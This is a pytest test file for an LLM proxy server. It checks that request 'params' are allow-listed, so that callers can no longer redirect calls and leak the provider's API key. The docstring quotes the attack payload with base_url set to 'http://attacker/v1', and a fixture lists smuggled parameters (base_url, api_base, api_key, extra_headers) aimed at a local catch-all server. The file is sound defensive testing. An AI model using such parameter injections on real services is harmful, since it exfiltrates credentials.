"""Request ``params`` can never choose where the LLM call goes (the key leak of issue 12, item 1).

``POST /v1/context`` used to forward ``params`` to litellm minus a short block list, so
``{"params": {"base_url": "http://attacker/v1"}}`` made the server send its provider key to that
URL. Now ``params`` pass one allow list of generation parameters (``prompts.GENERATION_PARAMS``):
anything else is a 400 naming the parameter, before any retrieval or call.

A real catch-all HTTP server (any method, any path, recorded) stands in for the attacker; the
repo's configured provider is the OpenAI stub. After every forbidden request both must have
received nothing. The server is the real app (FastAPI's TestClient); litellm makes real HTTP
calls, so a leak would show up as a recorded request.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from llm_repo import CHAT, CONTEXT, CatchAll, build_llm_repo
from openai_stub import OpenAIStub

from contextkit.errors import ContextKitError
from contextkit.prompts import GENERATION_PARAMS

SECRET = "sk-params-secret-0123456789"
KEY_VAR = "PARAMS_TEST_LLM_KEY"


# litellm's types trip a harmless pydantic warning the first time they are built.
pytestmark = pytest.mark.filterwarnings("ignore:Items? .* `ReadOnly` qualifier:UserWarning")


@pytest.fixture(scope="module")
def catch_all() -> Iterator[CatchAll]:
    with CatchAll() as server:
        yield server


@pytest.fixture(scope="module")
def stub() -> Iterator[OpenAIStub]:
    with OpenAIStub() as server:
        yield server


@pytest.fixture(scope="module")
def served(tmp_path_factory, stub) -> Iterator[tuple[TestClient, Any]]:
    """The small repo of ``llm_repo`` whose LLM is the stub, the key in the environment."""
    from contextkit.server.app import create_app

    mp = pytest.MonkeyPatch()
    mp.setenv(KEY_VAR, SECRET)
    root = tmp_path_factory.mktemp("params") / "repo"
    llm = {"api_base": stub.base_url, "api_key_env": KEY_VAR, "timeout_s": 10, "retries": 0}
    ctx = build_llm_repo(root, llm)
    try:
        with TestClient(create_app(ctx, auth=False), raise_server_exceptions=False) as client:
            yield client, ctx
    finally:
        ctx.close()
        mp.undo()


def forbidden(catch_all: CatchAll) -> dict[str, Any]:
    """Each parameter a request must not set, with a value that would leak or cheat."""
    return {
        "base_url": catch_all.url + "/v1",
        "api_base": catch_all.url + "/v1",
        "api_key": "sk-attacker",
        "extra_headers": {"X-Stolen": "1"},
        "headers": {"X-Stolen": "1"},
        "custom_llm_provider": "openai",
        "mock_response": "pwned",
        "extra_body": {"api_base": catch_all.url},
        "frobnicate": catch_all.url + "/v1",  # an unknown name
    }


def assert_refused(response, name: str) -> dict[str, Any]:
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/json"), response.text
    error = response.json()["error"]
    assert error["code"] != "internal_error"
    assert name in error["message"], error
    assert SECRET not in response.text
    return error


def test_every_forbidden_param_is_a_400_and_no_server_hears_of_it(served, catch_all, stub):
    client, _ctx = served
    catch_all.requests.clear()
    stub.reset()
    for name, value in forbidden(catch_all).items():
        params = {name: value}
        error = assert_refused(client.post("/v1/context", json={**CONTEXT, "params": params}), name)
        assert error["code"] == "invalid_request"
        assert error["details"]["field"] == f"params.{name}"
        assert error["details"]["allowed"] == sorted(GENERATION_PARAMS)
        assert "temperature" in error["details"]["hint"]
        # Streaming is refused the same way, as JSON before any event.
        streamed = {**CONTEXT, "stream": True, "params": params}
        assert_refused(client.post("/v1/context", json=streamed), name)
        # So is a request that only renders: params are checked whatever is asked.
        rendered = {**CONTEXT, "complete": False, "params": params}
        assert_refused(client.post("/v1/context", json=rendered), name)
        # The OpenAI-compatible endpoint: top level (the SDK's extra_body) and stream.
        for body in ({**CHAT, name: value}, {**CHAT, name: value, "stream": True}):
            body["contextkit"] = {"entities": {"user_id": 1}}
            refused = assert_refused(client.post("/v1/chat/completions", json=body), name)
            assert refused["param"] == name
        # ... and smuggled into the contextkit extension object.
        smuggled = {**CHAT, "contextkit": {"entities": {"user_id": 1}, "params": params}}
        assert_refused(client.post("/v1/chat/completions", json=smuggled), "params")

    assert catch_all.requests == []
    assert stub.requests == []


def test_the_sdk_refuses_the_same_params(served, catch_all):
    _client, ctx = served
    catch_all.requests.clear()
    for name, value in forbidden(catch_all).items():
        with pytest.raises(ContextKitError) as info:
            ctx.get_context(
                "assistant", {"user_id": 1}, query="hi", complete=True, params={name: value}
            )
        assert info.value.http_status == 400 and info.value.code == "invalid_request"
        assert name in info.value.message
    assert catch_all.requests == []


def test_a_param_of_the_wrong_type_is_a_400_naming_it(served, stub):
    client, _ctx = served
    stub.reset()
    for params, field in (
        ({"temperature": "hot"}, "params.temperature"),
        ({"max_tokens": 1.5}, "params.max_tokens"),
        ({"stop": [1, 2]}, "params.stop"),
    ):
        response = client.post("/v1/context", json={**CONTEXT, "params": params})
        error = assert_refused(response, field)
        assert error["details"]["field"] == field
    response = client.post("/v1/context", json={**CONTEXT, "params": ["temperature"]})
    assert response.status_code in (400, 422), response.text  # not an object at all
    assert stub.requests == []


def test_allowed_params_reach_the_configured_provider(served, stub):
    client, _ctx = served
    params = {
        "temperature": 0.7,  # over the prompt view's 0.2
        "top_p": 0.9,
        "max_tokens": 7,
        "seed": 3,
        "stop": ["\n\n"],
        "presence_penalty": 0.1,
        "frequency_penalty": 0.2,
        "user": "customer-1",
    }
    stub.reset()
    response = client.post("/v1/context", json={**CONTEXT, "params": params})
    assert response.status_code == 200, response.text
    assert response.json()["completion"]["text"] == "echo: x=1.5 Q: hi"
    [call] = stub.requests_to("/v1/chat/completions")
    assert {name: call.json.get(name) for name in params} == params
    assert call.headers.get("authorization") == f"Bearer {SECRET}"

    stub.reset()
    chat = {**CHAT, "temperature": 0.4, "seed": 5, "contextkit": {"entities": {"user_id": 2}}}
    response = client.post("/v1/chat/completions", json=chat)
    assert response.status_code == 200, response.text
    [call] = stub.requests_to("/v1/chat/completions")
    assert (call.json["temperature"], call.json["seed"]) == (0.4, 5)


def test_the_catch_all_would_see_a_leak(catch_all):
    """The control: litellm itself does send the key to a `base_url` it is given, so the
    assertions above (nothing recorded) mean the allow list stopped it, not a deaf recorder."""
    from contextkit.prompts._litellm import load_litellm

    litellm = load_litellm()
    catch_all.requests.clear()
    with pytest.raises(Exception):  # noqa: B017  (the catch-all answers 500)
        litellm.completion(
            model="openai/gpt-4o-mini",
            messages=[{"role": "user", "content": "hi"}],
            base_url=catch_all.url + "/v1",
            api_key=SECRET,
            num_retries=0,
            max_retries=0,
            timeout=10,
        )
    assert catch_all.requests, "the catch-all recorded nothing"
    assert catch_all.requests[0]["headers"]["authorization"] == f"Bearer {SECRET}"
    assert json.loads(catch_all.requests[0]["body"])["model"] == "gpt-4o-mini"


def test_the_chat_schema_declares_the_same_generation_parameters():
    from contextkit.server.chat import ChatCompletionBody

    own = {"model", "messages", "stream", "stream_options", "n", "contextkit"}
    ignored = {"metadata", "store", "service_tier"}
    assert set(ChatCompletionBody.model_fields) - own - ignored == GENERATION_PARAMS
